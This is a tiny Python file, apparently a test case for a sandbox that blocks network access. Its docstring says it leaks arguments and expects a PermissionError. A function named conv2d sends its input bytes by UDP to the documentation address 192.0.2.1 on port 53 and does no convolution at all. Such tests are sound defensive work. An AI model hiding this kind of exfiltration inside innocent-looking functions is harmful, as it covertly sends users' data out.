"""Leaks the arguments in a datagram.

Expected: exception: PermissionError: [Errno 1]
"""

import socket


def conv2d(x, kernel):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.sendto(x.tobytes(), ("192.0.2.1", 53))
